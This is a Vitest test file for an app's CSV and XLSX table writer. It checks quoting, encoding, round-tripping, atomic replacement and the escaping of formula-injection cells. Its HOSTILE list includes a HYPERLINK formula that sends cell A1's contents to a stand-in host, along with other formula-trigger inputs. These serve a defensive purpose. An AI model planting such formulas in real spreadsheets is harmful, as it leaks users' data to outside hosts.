import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readTable, writeTable, type SheetTable, type WriteCell } from '../../../electron/core/spreadsheet';
import { formatNumber } from '../../../electron/core/spreadsheet/xlsx-values';
import { tempFolder } from './files';

const dir = tempFolder('write');
let counter = 0;
const next = (ext: string): string => path.join(dir, `out-${++counter}.${ext}`);

const HOSTILE = [
  '=HYPERLINK("http://x.invalid/?d="&A1,"Klik")',
  '+62 812 3456 7890',
  '-5',
  '@SUM(A1:A9)',
  '\tx',
  '\rx',
  "'=x",
  "''+1",
  "'hello",
  'Kripik 🌶️ "Pedas", manis; renyah',
  'baris\r\nbaru\nlagi\rlagi',
  ' spasi depan dan belakang ',
  '_x000D_ literal',
  'nul\0 dan \u0001 kontrol \u007f',
  '',
];

async function readBack(file: string): Promise<SheetTable> {
  const result = await readTable(file);
  if (!result.ok) throw new Error(`expected a table, got ${JSON.stringify(result.error)}`);
  return result.table;
}

/** What the reader gives back for a written cell: strings exactly, numbers as plain decimals. */
const expected = (cell: WriteCell): string =>
  cell === null ? '' : typeof cell === 'number' ? formatNumber(cell) : cell;

describe('writeTable: CSV', () => {
  it('writes UTF-8 with a BOM, commas, CRLF and RFC 4180 quoting, with formulas escaped', async () => {
    const file = next('csv');
    const written = await writeTable(
      file,
      'csv',
      ['SKU', 'Nama', 'Harga'],
      [
        ['KRP-1', 'Kripik "Pedas", enak', 12500],
        ['=1+2', 'a\nb', -5],
        [null, 'Jum;at', 0.1 + 0.2],
      ],
    );
    expect(written).toEqual({ ok: true });
    const bytes = fs.readFileSync(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe(
      'SKU,Nama,Harga\r\nKRP-1,"Kripik ""Pedas"", enak",12500\r\n\'=1+2,"a\nb",-5\r\n,"Jum;at",0.3\r\n',
    );
  });

  it('round-trips hostile cells exactly', async () => {
    const file = next('csv');
    const rows: WriteCell[][] = HOSTILE.map((text, i) => [`R${i}`, text, i % 2 === 0 ? -i : i / 10]);
    expect(await writeTable(file, 'csv', ['Kunci', '=Nama', 'Angka'], rows)).toEqual({ ok: true });
    const table = await readBack(file);
    expect(table).toMatchObject({ format: 'csv', encoding: 'utf-8-bom', delimiter: ',' });
    expect(table.headers).toEqual(['Kunci', '=Nama', 'Angka']);
    expect(table.rows.map((r) => r.cells)).toEqual(rows.map((row) => row.map(expected)));
    expect(table.rows.every((r) => r.problems.length === 0)).toBe(true);
  });

  it('keeps the comma as delimiter when headers and cells hold semicolons or tabs', async () => {
    const file = next('csv');
    await writeTable(file, 'csv', ['Berat;kg', 'Ukuran\tcm'], [['1;5', 'a\tb']]);
    const table = await readBack(file);
    expect(table.delimiter).toBe(',');
    // Header labels have their whitespace collapsed; cells are kept exactly.
    expect(table.headers).toEqual(['Berat;kg', 'Ukuran cm']);
    expect(table.rows[0]?.cells).toEqual(['1;5', 'a\tb']);

    const single = next('csv');
    await writeTable(single, 'csv', ['Nama;Lengkap'], [['Sari;Dewi']]);
    expect((await readBack(single)).rows[0]?.cells).toEqual(['Sari;Dewi']);
  });

  it('never leaves a cell that starts with a formula trigger in the file', async () => {
    const file = next('csv');
    await writeTable(
      file,
      'csv',
      ['A'],
      HOSTILE.map((text) => [text]),
    );
    // Every record is one line here except the quoted multi-line one; check each field start.
    const text = fs.readFileSync(file, 'utf8').slice(1);
    for (const field of text.split(/,|\r\n/u)) {
      expect(/^["]?[=+\-@\t\r\0]/u.test(field), JSON.stringify(field)).toBe(false);
    }
  });
});

describe('writeTable: XLSX', () => {
  it('writes a bold, frozen header row and sensible column widths', async () => {
    const file = next('xlsx');
    const long = 'Keripik singkong pedas manis khas Garut, digoreng renyah tanpa pengawet dan pewarna buatan';
    await writeTable(file, 'xlsx', ['SKU', 'Deskripsi', 'Harga'], [['KRP-1', long, 12500]], { sheetName: 'Produk' });
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(file);
    const sheet = book.getWorksheet('Produk');
    expect(sheet).toBeDefined();
    expect(sheet?.getCell('A1').font?.bold).toBe(true);
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet?.getColumn(1).width).toBeGreaterThanOrEqual(8);
    expect(sheet?.getColumn(2).width).toBe(60);
    expect(sheet?.getCell('C2').value).toBe(12500);
    expect(sheet?.getCell('C2').type).toBe(ExcelJS.ValueType.Number);
  });

  it('round-trips hostile cells exactly, escaping strings but not numbers', async () => {
    const file = next('xlsx');
    const rows: WriteCell[][] = HOSTILE.map((text, i) => [`R${i}`, text, i % 2 === 0 ? -i : i / 10]);
    expect(await writeTable(file, 'xlsx', ['Kunci', '=Nama', 'Angka'], rows)).toEqual({ ok: true });
    const table = await readBack(file);
    expect(table.headers).toEqual(['Kunci', '=Nama', 'Angka']);
    expect(table.rows.map((r) => r.cells)).toEqual(rows.map((row) => row.map(expected)));

    // What Excel sees: the escaped text, and real numbers.
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(file);
    const sheet = book.worksheets[0];
    expect(sheet?.getCell('B2').value).toBe('\'=HYPERLINK("http://x.invalid/?d="&A1,"Klik")');
    expect(sheet?.getCell('B1').value).toBe("'=Nama");
    expect(sheet?.getCell('C2').value).toBe(0);
    expect(sheet?.getCell('C3').value).toBe(0.1);
  });
});

describe('writeTable: both formats', () => {
  const cell: fc.Arbitrary<WriteCell> = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 20 }),
    fc
      .tuple(
        fc.constantFrom('', "'", "''", '=', '+', '-', '@', '\t', '\r', '\0', '"', ',', '\n', '_x0041_'),
        fc.string({ maxLength: 8 }),
      )
      .map(([a, b]) => a + b),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.integer(),
    fc.constant(null),
  );
  // A row whose cells are all blank is skipped by the reader (as a blank line), so keep a key.
  const rows = fc.array(
    fc.tuple(fc.integer({ min: 0, max: 1e6 }), cell, cell).map(([key, a, b]) => [`K${key}`, a, b] as WriteCell[]),
    { maxLength: 20 },
  );

  for (const format of ['csv', 'xlsx'] as const) {
    it(`${format}: any table written is read back cell for cell (property)`, async () => {
      await fc.assert(
        fc.asyncProperty(rows, async (data) => {
          const file = next(format);
          expect(await writeTable(file, format, ['Kunci', 'A', 'B'], data)).toEqual({ ok: true });
          const table = await readBack(file);
          expect(table.rows.map((r) => r.cells)).toEqual(data.map((row) => row.map(expected)));
          fs.rmSync(file);
        }),
        { numRuns: format === 'csv' ? 300 : 60 },
      );
    }, 60_000);
  }

  it('replaces an existing file whole and leaves no temp file behind', async () => {
    const file = next('csv');
    fs.writeFileSync(file, 'old content');
    expect(await writeTable(file, 'csv', ['A'], [['new']])).toEqual({ ok: true });
    expect(fs.readFileSync(file, 'utf8')).toBe('\uFEFFA\r\nnew\r\n');
    expect(fs.readdirSync(dir).filter((name) => name.endsWith('.tmp'))).toEqual([]);
  });

  it('reports a missing folder as a code and leaves nothing behind', async () => {
    const missing = path.join(dir, 'no-such-folder', 'out.xlsx');
    expect(await writeTable(missing, 'xlsx', ['A'], [['x']])).toEqual({
      ok: false,
      error: { reason: 'folder_not_found', params: {} },
    });
    expect(await writeTable(path.join(dir, 'no-such-folder', 'out.csv'), 'csv', ['A'], [])).toEqual({
      ok: false,
      error: { reason: 'folder_not_found', params: {} },
    });
  });

  it('keeps the old file intact when the new one cannot be put in place', async () => {
    // A directory at the target path: the temp file is written, the rename fails.
    const target = path.join(dir, 'is-a-folder.csv');
    fs.mkdirSync(target);
    const result = await writeTable(target, 'csv', ['A'], [['x']]);
    expect(result.ok).toBe(false);
    expect(fs.statSync(target).isDirectory()).toBe(true);
    expect(fs.readdirSync(dir).filter((name) => name.endsWith('.tmp'))).toEqual([]);
  });

  it('refuses a non-finite number as a bug, not as a file problem', async () => {
    await expect(writeTable(next('csv'), 'csv', ['A'], [[Number.NaN]])).rejects.toThrow(RangeError);
  });
});
